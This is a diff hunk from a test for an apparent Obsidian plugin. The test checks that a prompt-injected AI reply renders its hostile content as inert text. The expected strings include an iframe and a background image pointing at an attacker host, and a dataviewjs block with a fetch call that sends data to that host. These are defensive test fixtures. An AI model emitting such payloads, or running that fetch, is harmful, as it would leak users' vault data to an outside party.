@@ -104,6 +104,8 @@ describe("a prompt-injected reply in the Obsidian pane", () => {
 		expect(shownText(reply)).toContain(`<iframe src="https://${ATTACKER}/frame"></iframe>`);
 		expect(shownText(reply)).toContain(`<div style="background:url(https://${ATTACKER}/bg.png)">Styled</div>`);
 		expect(reply.querySelector("pre code.language-dataviewjs")?.textContent).toContain(`fetch("https://${ATTACKER}/?d="`);
+		// Highlighted by Obsidian's Prism, which only colours its text.
+		await until(() => reply.querySelector("pre code.language-dataviewjs span.token"));
 		expect([...reply.querySelectorAll("code")].map((c) => c.textContent)).toContain(`![](https://${ATTACKER}/in-code.png)`);
 		other.unload();
 		await stopPlugin(plugin);
